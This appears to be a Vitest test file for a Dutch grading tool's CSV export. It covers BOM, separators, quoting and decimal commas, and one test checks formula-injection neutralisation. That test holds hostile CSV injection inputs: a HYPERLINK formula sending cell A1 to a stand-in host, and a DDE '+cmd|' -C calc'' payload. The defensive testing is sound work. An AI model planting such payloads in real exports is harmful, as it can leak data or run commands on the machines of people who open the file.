import { describe, expect, it } from "vitest";
import { lint } from "../../src/api.js";
import { csvField, csvText, gradesCsv } from "../../src/grade/csv.js";
import { gradeScripts } from "../../src/grade/graded.js";
import { resolveRubric } from "../../src/grade/rubric.js";
import { builtinRules } from "../../rules/index.js";
import { parseCsv } from "../support/csv.js";
import { reportResults } from "../support/report-input.js";

const known = Object.keys(builtinRules);
const rubric = resolveRubric(undefined, { known, enabled: new Set(known) }, "rubric");

async function scripts() {
  const tricky = await lint(`---\nstudent: Jan "de Kei"; Pieters\n---\nAgent: Hoi, zeg het maar.\n`, { filePath: "/klas/jan.txt", keepSource: true });
  return gradeScripts([...(await reportResults()), tricky], rubric, (path) => path.replace("/klas/", ""));
}

describe("cijfers.csv", () => {
  it("begint met een BOM, scheidt met puntkomma's en leest terug met dezelfde waarden", async () => {
    const text = gradesCsv(await scripts(), rubric, { decimalComma: true });
    expect(text.startsWith("\uFEFFbestand;student;")).toBe(true);
    const [header, ...rows] = parseCsv(text.slice(1));
    expect(header!.slice(0, 5)).toEqual(["bestand", "student", "punten (van 100)", "cijfer (cijfer)", "voldoende"]);
    expect(header).toContain("Opening (greeting): punten af");
    expect(rows).toHaveLength(3);
    for (const row of rows) expect(row).toHaveLength(header!.length);
    const byFile = Object.fromEntries(rows.map((row) => [row[0], Object.fromEntries(header!.map((h, i) => [h, row[i]]))]));
    expect(byFile["sanne.md"]).toMatchObject({ student: "sanne", "punten (van 100)": "100", "cijfer (cijfer)": "10,0", voldoende: "ja" });
    expect(byFile["kim.txt"]).toMatchObject({ "Opening (greeting): punten af": "20", voldoende: "ja" });
    expect(byFile["kim.txt"]!["cijfer (cijfer)"]).toMatch(/^\d+,\d$/);
    expect(byFile["jan.txt"]).toMatchObject({ student: 'Jan "de Kei"; Pieters' });
  });

  it("schrijft met --no-decimal-comma een punt", async () => {
    const rows = parseCsv(gradesCsv(await scripts(), rubric, { decimalComma: false }).slice(1));
    expect(rows.find((row) => row[0] === "sanne.md")![3]).toBe("10.0");
  });

  it("zet velden alleen tussen aanhalingstekens als het moet", () => {
    expect(csvField("gewoon")).toBe("gewoon");
    expect(csvField("a;b")).toBe('"a;b"');
    expect(csvField('zei "hoi"')).toBe('"zei ""hoi"""');
    expect(csvField("twee\nregels")).toBe('"twee\nregels"');
  });

  it("neutraliseert formules uit namen, bestandsnamen en rubriclabels, maar laat getallen staan", async () => {
    const labelled = resolveRubric(
      { criteria: { greeting: { label: "@SUM(1+1)", points: 150 } } },
      { known, enabled: new Set(known) },
      "rubric",
    );
    const attack = await lint(`---\nstudent: '=HYPERLINK("http://voorbeeld.nl/?"&A1,"klik")'\n---\nAgent: Hoi, zeg het maar.\n`, {
      filePath: "/klas/a.txt",
      keepSource: true,
    });
    const named = await lint("Agent: Goedemiddag, u spreekt met Kim van Enerva.\n", { filePath: "/klas/+cmd|' -C calc'!A0.txt", keepSource: true });
    const graded = gradeScripts([attack, named], labelled, (path) => path.replace("/klas/", ""));
    const [header, ...rows] = parseCsv(gradesCsv(graded, labelled, { decimalComma: true }).slice(1));
    expect(header).toContain("'@SUM(1+1) (greeting): punten af");
    expect(rows[0]!.slice(0, 2)).toEqual(["a.txt", `'=HYPERLINK("http://voorbeeld.nl/?"&A1,"klik")`]);
    expect(rows[1]!.slice(0, 2)).toEqual(["'+cmd|' -C calc'!A0.txt", "'+cmd|' -C calc'!A0"]);
    // A rubric of 150 points off makes the total 0, never a neutralised "-50".
    expect(rows[0]![2]).toBe("0");
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("zet een apostrof voor tekst die met =, +, -, @, tab of CR begint", () => {
    expect(csvText("=1+1")).toBe("'=1+1");
    expect(csvText("-2")).toBe("'-2");
    expect(csvText("\tx")).toBe("'\tx");
    expect(csvText("\rx")).toBe(`"'\rx"`);
    expect(csvText("Sanne")).toBe("Sanne");
    expect(csvField("-2")).toBe("-2");
  });
});
